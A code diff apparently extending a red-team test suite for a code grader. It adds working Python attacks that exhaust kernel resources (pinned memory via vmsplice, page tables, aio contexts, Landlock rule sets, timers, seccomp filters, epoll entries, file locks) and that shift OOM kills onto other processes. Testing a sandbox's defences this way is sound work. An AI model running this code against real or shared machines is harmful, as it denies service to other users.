@@ -9,6 +9,22 @@ from hostile.attack import WRONG, Attack, notebook
 SEEN = "the batch ends or hangs, the grader's memory grows, or an honest neighbour's score changes"
 
 
+MORE = "points, which only an answer earns that holds more of the machine's memory than it may use"
+
+_BY_HAND = """
+import ctypes, errno, mmap, struct, time
+libc = ctypes.CDLL(None, use_errno=True)
+libc.mmap.restype = ctypes.c_void_p
+libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
+libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
+here = 0 if os.uname().machine == "x86_64" else 1
+kept = []
+def did(result):
+    if result is None or result < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    return result
+"""
+
+
 def _zip(write):
     def content(world):
         buffer = io.BytesIO()
@@ -366,7 +382,7 @@ def twice(x):
     while True: os.urandom(1 << 22)
 def energy(x):
     while True:
-        memory = mmap.mmap(-1, 1 << 26); memory.write(bytes(1 << 26)); memory.close()
+        memory = mmap.mmap(-1, 1 << 26, flags=mmap.MAP_PRIVATE); memory.write(bytes(1 << 26)); memory.close()
 def at_one(f, x):
     while True: os.path.exists("a/" * 1500); os.listdir(os.path.dirname(os.__file__))
 '''),
@@ -420,5 +436,112 @@ for top in (os.path.dirname(np.__file__), os.path.dirname(os.__file__), "/tmp", 
                 except OSError: pass
             kept.append(fd) if len(kept) < 150 else os.close(fd)
         if len(kept) >= 150: break
+'''),
+    Attack("memory-in-no-page-table", "availability", "fills shared anonymous memory and drops its pages from its page tables: of its own, and of /dev/zero", MORE, _BY_HAND + '''
+def fill(fd):
+    for _ in range(14):
+        memory = mmap.mmap(fd, 1 << 26)
+        np.frombuffer(memory, np.uint8)[::4096] = 1
+        memory.madvise(mmap.MADV_DONTNEED); kept.append(memory)
+    time.sleep(0.3)
+def twice(x): fill(-1); return 2 * x
+def at_one(f, x): fill(os.open("/dev/zero", os.O_RDWR)); return f(x)
+'''),
+    Attack("memory-in-pipes", "availability", "gives one page of each huge page to a pipe (vmsplice), and lets go of the memory", MORE, _BY_HAND + '''
+HUGE = 1 << 21
+def given():
+    address = did(libc.mmap(None, 17 * HUGE, 3, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, 0))
+    first = -(-address // HUGE) * HUGE
+    did(libc.madvise(first, 16 * HUGE, 14))
+    pages = [first + k * HUGE for k in range(16)]
+    for page in pages: ctypes.memset(page, 1, 1)
+    reading, writing = os.pipe(); kept.append((reading, writing))
+    vector = (ctypes.c_ulong * 32)(*(word for page in pages for word in (page, 4096)))
+    done = did(libc.vmsplice(writing, vector, 16, 2))
+    did(libc.munmap(ctypes.c_void_p(address), ctypes.c_size_t(17 * HUGE)))
+    return done * 512
+def twice(x):
+    held = sum(given() for _ in range(22))
+    if held < 7 * 10**8: raise MemoryError(held)
+    time.sleep(0.3)
+    return 2 * x
+'''),
+    Attack("memory-in-larger-pipes", "availability", "makes pipes and sockets larger, and fills them", "points, which only who has a larger pipe or socket earns", _BY_HAND + '''
+import fcntl, socket
+def twice(x):
+    for _ in range(8): kept.append(os.pipe()); fcntl.fcntl(kept[-1][1], 1031, 1 << 20)
+    return 2 * x
+def at_one(f, x):
+    for _ in range(60):
+        kept.append(socket.socketpair()); kept[-1][0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
+    return f(x)
+'''),
+    Attack("memory-of-page-tables", "availability", "touches a byte in each of tens of thousands of mappings, so far apart that each needs page tables of its own, and most of what it may use besides", MORE, _BY_HAND + '''
+def touch(numbers):
+    for k in numbers:
+        ctypes.c_char.from_address(did(libc.mmap((1 << 42) + (k << 30), 4096, 3, 34, -1, 0))).value
+touch(range(20_000))
+# %%
+touch(range(20_000, 40_000))
+# %%
+def twice(x):
+    kept.append(np.ones(6 * 10**7)); time.sleep(0.3); kept.clear()
+    return 2 * x
+'''),
+    Attack("asynchronous-io-taken", "availability", "takes all of the machine's asynchronous input and output", "points, which only who has some of it earns", _BY_HAND + '''
+def twice(x):
+    did(libc.syscall((206, 0)[here], 30_000, ctypes.byref(ctypes.c_ulong())))
+    return 2 * x
+'''),
+    Attack("rule-sets-never-applied", "availability", "makes Landlock rule sets of sixty thousand ports each, and applies none", "points, which only who has one earns", _BY_HAND + '''
+def twice(x):
+    made = did(libc.syscall(444, struct.pack("QQ", 0, 3), 16, 0))
+    for port in range(20_000): did(libc.syscall(445, made, 2, struct.pack("QQ", 3, port), 0))
+    return 2 * x
+def at_one(f, x):
+    kept.append(did(libc.syscall(444, struct.pack("Q", 8), 8, 0)))
+    return f(x)
+'''),
+    Attack("timers-without-end", "availability", "makes timers, as many as there may be, and filters that are stacked upon the grader's", "points, which only who has some earns", _BY_HAND + '''
+def twice(x):
+    for _ in range(20_000): did(libc.syscall((222, 107)[here], 1, None, ctypes.byref(ctypes.c_int())))
+    return 2 * x
+def at_one(f, x):
+    allow = struct.pack("HBBI", 6, 0, 0, 0x7fff0000); program = struct.pack("HxxxxxxP", 1, ctypes.cast(allow, ctypes.c_void_p).value)
+    if libc.prctl(22, 2, program, 0, 0): did(libc.syscall((317, 277)[here], 1, 0, program))
+    return f(x)
+'''),
+    Attack("event-polls-without-end", "availability", "has event polls watch every file under every number a descriptor can have", "points, which only who has tens of thousands of entries earns", _BY_HAND + '''
+import select
+def twice(x):
+    polls = [select.epoll() for _ in range(60)]
+    files = [os.eventfd(0) for _ in range(60)]
+    ours, number, made = {*files, *(poll.fileno() for poll in polls)}, 0, 0
+    end = time.monotonic() + 1.5
+    for number in range(254, 64, -1):
+        if number in ours or time.monotonic() > end: continue
+        for file in files:
+            os.dup2(file, number)
+            for poll in polls: poll.register(number); made += 1
+    if made < 20_000: raise OSError(made)
+    return 2 * x
+'''),
+    Attack("locks-without-end", "availability", "locks every second byte of its files: no limit counts locks", "the kernel's list of locks grows by tens of thousands", _BY_HAND + '''
+import fcntl
+def twice(x):
+    end = time.monotonic() + 1.5
+    for number in range(100):
+        kept.append(open(f"f{number}", "w"))
+        for byte in range(0, 8000, 2):
+            fcntl.lockf(kept[-1], fcntl.LOCK_EX, 1, byte)
+        if time.monotonic() > end: break
+    time.sleep(0.3)
+'''),
+    Attack("not-the-first-to-be-ended", "availability", "has the kernel end others first when the machine has no memory left", "points, which only who can change that earns", '''
+def twice(x):
+    for value in ("0", "-1000"):
+        try: open("/proc/self/oom_score_adj", "w").write(value)
+        except OSError: continue
+    if int(open("/proc/self/oom_score_adj").read()) < 1000: return 2 * x
 '''),
 )  # fmt: skip
